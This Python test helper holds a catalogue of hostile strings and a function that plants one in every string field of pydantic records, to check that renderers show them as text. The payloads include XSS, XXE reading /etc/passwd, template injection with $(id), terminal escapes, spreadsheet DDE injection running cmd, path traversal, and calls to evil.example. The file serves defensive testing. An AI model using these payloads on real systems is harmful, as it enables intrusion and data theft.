"""Hostile strings, and records with one in every string field: what a renderer or a page must show as text.

``strings()`` are the attacks; ``poisoned(record, choose)`` puts one into every string that the record's type allows,
found by walking the model, so that a field which is added tomorrow is tried tomorrow.
"""

from __future__ import annotations

from collections.abc import Callable, Mapping
from enum import Enum
from functools import cache
from typing import Annotated, Any

from pydantic import BaseModel, TypeAdapter, ValidationError

_SCRIPTS = {
    "script": "<script>top.hit=1;alert(1)</script>",
    "handler": '<img src=x onerror="top.hit=1;alert(1)">',
    "svg": "<svg><animate onbegin=alert(1) attributeName=x /><script>top.hit=1</script></svg>",
    "svg namespace": "</title></desc><foreignObject><body onload=alert(1)></foreignObject>",
    "mathml": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "breakout double": '"><script>alert(1)</script><a b="',
    "breakout single": "'><script>alert(1)</script><a b='",
    "attribute": 'x" autofocus onfocus="alert(1)" style="position:fixed;inset:0',
    "address": "javascript:alert(document.domain)",
    "address hidden": "java\tscript:alert(1)//&#106;avascript:alert(2)",
    "data address": "data:text/html,<script>alert(1)</script>",
    "comment": "--><!--><script>alert(1)</script><!--",
    "cdata": "]]><script>alert(1)</script><![CDATA[",
    "end of style": "</style></textarea></noscript></pre><script>alert(1)</script>",
    "css": "}*{background:url(//evil.example/c)}@import '//evil.example/i';a{x:expression(alert(1))",
    "srcdoc": '<svg><foreignObject><iframe srcdoc="&lt;script&gt;parent.hit=1&lt;/script&gt;"></iframe></svg>',
    "css escape": "\\3c script\\3e \\22 onload=alert(1) x=</style><iframe srcdoc=<script>top.hit=1</script>>",
    "line in json": 'a\u2028"},"x":"</script><script>top.hit=1</script>\u2029//',
    "meta": '<meta http-equiv="refresh" content="0;url=//evil.example"><base href="//evil.example/">',
    "form": '<form action="//evil.example"><input name=x><button>go</button></form>',
    "entity": "&lt;script&gt;&#60;script&#62;&amp;lt;",
    "xml entity": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
}
_TEMPLATES = {
    "jinja": "{{7*191}}{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}{# gone #}",
    "dollar": "${7*191}#{7*191}<%= 7*191 %>$(id)`id`%s%(x)s{0}{0.__class__}",
    "rich": "[bold red]x[/bold red][link=file:///etc/passwd]y[/link][/]",
}
_TERMINALS = {
    "colour": "\x1b[31;1mred\x1b[0m",
    "title": "\x1b]0;owned\x07\x1b]2;owned\x1b\\",
    "link": "\x1b]8;;http://evil.example\x07here\x1b]8;;\x07",
    "clipboard": "\x1b]52;c;ZXZpbA==\x07",
    "clear": "\x1b[2J\x1b[H\x1bc\x1b[?1049h\x1b[5n\x9b2J\x90q\x9c",
    "back": "good\b\b\b\bevil\r\x1b[Aevil\x7f",
    "bell and null": "\x00\x07\x00a\x00",
    "workflow": "\n::set-output name=x::y\n::error::x\n##[command]x\n##vso[task.x]y\n##teamcity[x]\n",
    "workflow wide": "word " * 40 + "::add-mask::x ::stop-commands::y " + "word " * 40,
}
_SHEETS = {
    "hyperlink": '=HYPERLINK("http://evil.example?"&A1,"click")',
    "dde": "+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab formula": "\t=1+1",
    "return formula": "\r\n=1+1",
    "hidden formula": "\u200b\ufeff=1+1",
    "wide formula": "\uff1d1+1",
    "every separator": "=cmd|' /C calc'!A0\t+1;@SUM(1;1)\r\n-1,5;=1+1",
    "next cell": 'x";=1+1;"',
}
_PATHS = {
    "up": "../../../../etc/passwd",
    "absolute": "/etc/cron.d/evil",
    "windows": "C:\\Windows\\System32\\evil.dll",
    "share": "\\\\evil.example\\share\\x",
    "stream": "report.html::$DATA",
    "device": "CON.txt",
    "null path": "safe.png\x00.sh",
}
_MARKDOWN = {
    "md link": "[click](javascript:alert(1)) <http://evil.example> http://evil.example www.evil.example",
    "md image": "![x](http://evil.example/pixel.png) ![x][r]\n\n[r]: http://evil.example/pixel.png",
    "md table": "a | b |\n|---|---|\n| evil | row |",
    "md block": "\n\n# heading\n\n- list\n\n> quote\n\n```\ncode\n```\n\n---\n\n<details open>x</details>",
    "md tick": "``` ` `` x ```` </code> `",
    "mention": "@everyone @admin #1 GH-1 fixes #2",
}
_LETTERS = {
    "direction": "\u202egnp.exe\u202c\u2066x\u2069\u200f\u061c",
    "hidden": "a\u200bb\u200cc\u200dd\u2060e\ufefff\u00adg\u180eh",
    "tags": "\U000e0041\U000e0042 \ufe0f\ufffe\uffff\ue000",
    "homoglyph": "p\u0430ss \u0440\u0430ss FA\u0406L \u2215 \u29f8 \uff1cscript\uff1e",
    "zalgo": "Z" + "\u0301\u0316\u0320" * 60,
    "struck out": "e" + "\u0335\u0489\u20dd" * 300,
    "breaks": "a\u2028b\u2029c\x0bd\x0ce\x85f\x1cg",
    "long": "W" * 20_000,
    "long words": "lorem ipsum " * 2_000,
    "wide": "\U0001f600\u4e2d\uac00" * 300,
    "surrogate": "\ud800x\udfff",
    "blank": " ",
}


def strings() -> dict[str, str]:
    """Every hostile string by name: markup, templates, terminals, spreadsheets, paths, Markdown, letters."""
    return {**_SCRIPTS, **_TEMPLATES, **_TERMINALS, **_SHEETS, **_PATHS, **_MARKDOWN, **_LETTERS}


# By these one record finds another, and one is markup that has its own tests.
REFERENCES = ("slug", "mode", "modes", "picture_svg")
Place = tuple[str, str]  # a record's type and one of its fields
Choose = Callable[[Place], str | None]  # the string for a place; None leaves it as it is


def poisoned(record: Any, choose: Choose) -> Any:
    """The record with a hostile string in every place that may hold any string, nested records and keys included."""
    if not isinstance(record, BaseModel):
        return _value(record, choose, (type(record).__name__, "item"))
    made: dict[str, Any] = {}
    for name in type(record).model_fields:
        place = (type(record).__name__, name)
        value = getattr(record, name)
        if name in REFERENCES and (isinstance(value, str) or all(isinstance(v, str) for v in value)):
            made[name] = value
        elif isinstance(value, str) and not isinstance(value, Enum):
            text = choose(place) if _allows(type(record), name, "<any>") else None
            made[name] = value if text is None else text
        else:
            made[name] = _value(value, choose, place)
    return record.model_copy(update=made)


def places(record: Any) -> tuple[Place, ...]:
    """Every place of a record that a hostile string can stand in."""
    found: dict[Place, None] = {}

    def note(place: Place) -> None:
        found[place] = None

    poisoned(record, note)
    return tuple(found)


def _value(value: Any, choose: Choose, place: Place) -> Any:
    if isinstance(value, BaseModel):
        return poisoned(value, choose)
    if isinstance(value, str) and not isinstance(value, Enum):
        text = choose(place)
        return value if text is None else text
    if isinstance(value, Mapping):
        return {_key(k, choose, place): _value(v, choose, place) for k, v in value.items()}
    if isinstance(value, list | tuple):
        return type(value)(_value(v, choose, place) for v in value)
    return value


def _key(key: str, choose: Choose, place: Place) -> str:
    text = choose((place[0], f"{place[1]}, key"))
    return key if text is None else f"{text}{key}"


@cache
def _adapter(owner: type[BaseModel], name: str) -> TypeAdapter[Any]:
    known = owner.model_fields[name]
    wanted: Any = known.annotation
    return TypeAdapter(Annotated[wanted, *known.metadata] if known.metadata else wanted)


def _allows(owner: type[BaseModel], name: str, text: str) -> bool:
    try:
        return bool(_adapter(owner, name).validate_python(text) is not None)
    except ValidationError:
        return False
